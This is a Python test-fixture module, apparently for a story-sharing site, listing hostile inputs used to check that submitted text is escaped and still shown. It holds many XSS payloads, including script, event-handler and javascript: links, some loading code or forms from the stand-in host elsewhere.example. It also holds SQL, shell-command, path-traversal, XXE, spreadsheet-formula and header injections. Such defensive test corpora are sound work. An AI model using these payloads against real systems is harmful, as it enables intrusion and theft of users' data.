"""Words that have broken sites, or eaten what a person wrote: each with the words that a reader must still see."""

import unicodedata
from collections.abc import Iterator
from dataclasses import dataclass

from stories.content import MAX_CHARS

CALL = "window.__pwned=1"
"""What a script does that must never run."""

ELSEWHERE = "//elsewhere.example"


@dataclass(frozen=True)
class Hostile:
    """`text` as it is sent; `words` is what must be seen of it, all of it unless told otherwise."""

    name: str
    text: str
    seen: str | None = None

    @property
    def words(self) -> str:
        """The visible words."""
        return self.text if self.seen is None else self.seen

    def fits(self, field: str) -> bool:
        """Whether it is short enough for a text field."""
        return len(self.text) <= MAX_CHARS[field]


MARKUP = (
    Hostile("a script", f"Day 1 <script>{CALL}</script> day 2"),
    Hostile("a script that is never closed", f"<script>{CALL}//"),
    Hostile("a script in capitals with a slash", f"<SCRIPT/x>{CALL}</SCRIPT\t>", f"<SCRIPT/x>{CALL}</SCRIPT >"),
    Hostile("a script from elsewhere", f"<script src={ELSEWHERE}/x.js></script>"),
    Hostile("a script in a script", f"<scr<script>ipt>{CALL}</scr</script>ipt>"),
    Hostile("a module", f"<script type=module>import '{ELSEWHERE}'</script>"),
    Hostile("a broken picture", f"<img src=x onerror={CALL}>"),
    Hostile("a broken picture without spaces", f"<img/src=x/onerror={CALL}>"),
    Hostile("a picture from elsewhere", f'<img src="{ELSEWHERE}/pixel.gif" width=1>'),
    Hostile("a picture set", f'<img srcset="{ELSEWHERE}/a.png 2x" loading=eager>'),
    Hostile("a focus", f"<input autofocus onfocus={CALL}>"),
    Hostile("a frame that loads", f"<iframe onload={CALL}></iframe>"),
    Hostile("a frame with a document", f"<iframe srcdoc='<script>parent.{CALL}</script>'>"),
    Hostile("a body", f"<body onload={CALL} onpageshow={CALL}>"),
    Hostile("details", f"<details open ontoggle={CALL}>x</details>"),
    Hostile("a moving text", f"<marquee onstart={CALL}>went well</marquee>"),
    Hostile("a sound", f"<audio src=x onerror={CALL}><source onerror={CALL}>"),
    Hostile("an animation", f"<p style=animation:x onanimationstart={CALL}>"),
    Hostile("svg", f"<svg onload={CALL}>"),
    Hostile("svg with a script", f"<svg><script>{CALL}</script></svg>"),
    Hostile("svg that animates", f"<svg><a><animate attributeName=href values=javascript:{CALL}/>x</a></svg>"),
    Hostile("svg that uses", f"<svg><use href='{ELSEWHERE}/x.svg#a'/></svg>"),
    Hostile("mathml", f"<math><mtext><style><img src onerror={CALL}>"),
    Hostile("mathml link", f"<math href=javascript:{CALL}>click</math>"),
    Hostile("mutation", f"<noscript><p title='</noscript><img src onerror={CALL}>'>"),
    Hostile("a template", f"<template><img src onerror={CALL}></template>"),
    Hostile("an end of what we write", "</textarea></title></style></p></dd></h1>done"),
    Hostile("an end and a script", f"</textarea><script>{CALL}</script>"),
    Hostile("an attribute", f'" onmouseover="{CALL}" x="'),
    Hostile("an attribute in single quotes", f"' autofocus onfocus='{CALL}"),
    Hostile("backticks", f"`onclick={CALL}`"),
    Hostile("a base", f"<base href={ELSEWHERE}/>"),
    Hostile("a refresh", f'<meta http-equiv="refresh" content="0;url={ELSEWHERE}">'),
    Hostile("a policy", "<meta http-equiv=Content-Security-Policy content=\"script-src 'none'\">"),
    Hostile("a style sheet", f"<link rel=stylesheet href={ELSEWHERE}/x.css>"),
    Hostile("a style", f"<style>@import '{ELSEWHERE}';*{{display:none}}</style>"),
    Hostile("an old style", f"<p style='x:expression({CALL})'>"),
    Hostile("a style with a picture", f"<b style=background:url({ELSEWHERE}/b)>"),
    Hostile("a form", f"<form action={ELSEWHERE}><button>Continue</button></form>"),
    Hostile("a button elsewhere", f"<button formaction={ELSEWHERE}>Send</button>"),
    Hostile("an object", f"<object data={ELSEWHERE}></object><embed src={ELSEWHERE}>"),
    Hostile("an id of ours", "<a id=main name=csrf_token>main</a>"),
    Hostile("a form field of ours", "<input name=csrf_token value=stolen>"),
)
LINKS = (
    Hostile("javascript", f"<a href=javascript:{CALL}>read on</a>"),
    Hostile("javascript with a tab", f"<a href='java\tscript:{CALL}'>x</a>", f"<a href='java script:{CALL}'>x</a>"),
    Hostile("javascript by entities", f"<a href=&#106;&#97;vascript&colon;{CALL}>x</a>"),
    Hostile("data", f"<a href=data:text/html,<script>{CALL}</script>>x</a>"),
    Hostile("data in base64", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="),
    Hostile("vbscript", "<a href=vbscript:msgbox(1)>x</a>"),
    Hostile("a link in Markdown", f"[how I healed](javascript:{CALL})"),
    Hostile("a picture in Markdown", f"![x](https:{ELSEWHERE}/p.png)"),
    Hostile("an address with credentials", "https://admin:secret@elsewhere.example/reset?x=1"),
    Hostile("an address of a lookalike", "https://xn--frsthand-q2a.example and http://ｅxample.org"),
)
PLAIN = (
    Hostile("a comment that is none", "pain <!3 days> gone"),
    Hostile("an address in brackets", "<john@example.org>"),
    Hostile("a dose in brackets", "dose <x mg> daily"),
    Hostile("smaller and larger", "5 < 7 > 3 and a<b and b>a and <3 and >_<"),
    Hostile("a comment that is never closed", "redness <!-- and then"),
    Hostile("a comment", "before <!-- hidden --> after <!> end <!---> x --!> y"),
    Hostile("character data", "<![CDATA[ it burned ]]> and <![CDATA[ left open"),
    Hostile("an instruction", "<?php system('ls') ?> <%= 7*7 %> <?xml version='1.0'?>"),
    Hostile("an entity of XML", '<!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]>&y;'),
    Hostile("entities", "&lt;b&gt; &amp;amp; &copy &notit; &#60;script&#62; &#x3c; &#0; &#xD800; &"),
    Hostile("entities half done", "fish &am chips &#; &#x; &unknown; &lt"),
    Hostile("a template for Jinja", "{{ 7*7 }} {{ config }} {% for x in y %} {# gone #} {{ ''.__class__ }}"),
    Hostile("other templates", "${7*7} #{7*7} <%= 7*7 %> {{constructor.constructor('x')()}} @(1+1)"),
    Hostile("formats", "%s %n %(secret)s {0} {narrative!r} {self.__init__} \\x41 \\u0041 \\n"),
    Hostile("quotes", '"it\'s" \'he said "no"\' `x` “y” ‘z’ «w» \\" \\\' \'"`\'"'),
    Hostile("SQL", "'; DROP TABLE stories; -- ' OR '1'='1' UNION SELECT * FROM moderators /* x */"),
    Hostile("a path", "../../../../etc/passwd \\\\server\\share C:\\con file:///etc/passwd"),
    Hostile("a command", "$(reboot) `reboot` ; reboot | reboot && reboot > /dev/null"),
    Hostile("a formula", '=HYPERLINK("http:' + ELSEWHERE + '","x") +1 -1 @SUM(1) =cmd|\' /C calc\'!A0'),
    Hostile("null and undefined", "null undefined NaN None true 0 -1 1e309 [object Object]"),
    Hostile(
        "a header",
        "worse\r\nSet-Cookie: session=stolen\r\n\r\n<b>body</b>",
        "worse Set-Cookie: session=stolen <b>body</b>",
    ),
    Hostile("line ends", "one\rtwo\r\nthree\nfour\x0bfive\x0csix", "one two three fourfivesix"),
)
CHARACTERS = (
    Hostile("null", "wors\x00e <scr\x00ipt>", "worse <script>"),
    Hostile("controls", "b\x08e\x1b[31mtt\x07er \x7f\x85\x9b!", "be[31mtter !"),
    Hostile("text turned round", "safe \u202egnihton\u202c \u2066x\u2069 end", "safe gnihton x end"),
    Hostile("marks of direction", "\u200fשלום\u200e abc مرحبا (1)"),
    Hostile("nothing wide", "he\u200bal\u2060ed x\ufeffy sof\u00adt", "he\u200bal\u2060ed xy sof\u00adt"),
    Hostile("joiners", "नमस्\u200dते می\u200cخواهم"),
    Hostile("line and paragraph separators", "one\u2028two\u2029three", "one two three"),
    Hostile("spaces", "a\u00a0b\u2003c\u3000d\u1680e\u202ff", "a b c d e f"),
    Hostile("a flood of marks", "z" + "\u0310\u0323\u0334" * 8 + " a" + "\u0489" * 6 + " end"),
    Hostile("letters that compose", "Amelie\u0301 A\u030a \u1112\u1161\u11ab", "Amelié Å 한"),
    Hostile("letters that look alike", "рaypаl ｓｃｒｉｐｔ ﬁ Ⅳ ＜script＞"),
    Hostile("emoji", "👩🏽\u200d⚕️ 🏳️\u200d🌈 🇬🇧 👨\u200d👩\u200d👧 1️⃣ 🫠"),
    Hostile("characters far out", "𝒽𝑒𝒶𝓁 𠜎 \U0001f9ec \U000e0067\U000e0062 \U000f0000"),
    Hostile("no characters", "x\ufffey\uffffz\ufdd0w\U0001ffff.", "xyzw."),
    Hostile("a replacement", "caf\ufffd Ã¼ber â€œquotedâ€"),
    Hostile("Turkish and German letters", "İıŞş ß ẞ ǅ ŉ"),
    Hostile("a word without end", "a" * 39),
    Hostile("a longer word without end", "W" * 119),
    Hostile("an address without end", "https:" + ELSEWHERE + "/" + "path/" * 15),
    Hostile("only marks", "?!…·–—•*#_~^|\\/"),
)
LONG = (
    Hostile("a word of thousands", "x" * 4_000),
    Hostile("thousands of marks", "e" + "\u0301" * 700 + " end"),
    Hostile("thousands of brackets", "<" * 1_500 + ">" * 1_500),
    Hostile("nested elements", "<b>" * 400 + "deep" + "</b>" * 400),
    Hostile("thousands of entities", "&amp;" * 600),
)
SURROGATES = (
    Hostile("a lone surrogate", "wor\ud83dse", "worse"),
    Hostile("surrogates the wrong way round", "\ude00\ud83d x", "x"),
)
"""Only a file can bring them: a browser sends U+FFFD in their place."""

Texts = tuple[Hostile, ...]
LINES = tuple(field for field in MAX_CHARS if field != "narrative")

CORPUS = (*MARKUP, *LINKS, *PLAIN, *CHARACTERS, *LONG)
"""All that a browser can send."""


def stories_of(
    corpus: tuple[Hostile, ...] = CORPUS, *, at_once: int = 8, first: int = 0
) -> Iterator[dict[str, Texts]]:
    """Stories by text field that together tell all of `corpus`: each text in a narrative, `at_once` in one.

    The short fields have one text each, in turn those that fit; another `first` begins the turn elsewhere.
    """
    for begin in range(0, len(corpus), at_once):
        story = {"narrative": corpus[begin : begin + at_once]}
        for place, field in enumerate(LINES):
            turn = (corpus[(first + begin + place + step) % len(corpus)] for step in range(len(corpus)))
            story[field] = (next(one for one in turn if one.fits(field)),)
        yield story


def sent(texts: Texts) -> str:
    """`texts` as one field is sent."""
    return "\n\n".join(one.text for one in texts)


def seen(texts: Texts) -> str:
    """What must be seen of `texts`, made for comparing by `visible`."""
    return visible(" ".join(one.words for one in texts))


def visible(text: str) -> str:
    """`text` for comparing what is seen: composed, and without white space, which a page may set as it likes."""
    return "".join(unicodedata.normalize("NFC", text).split())
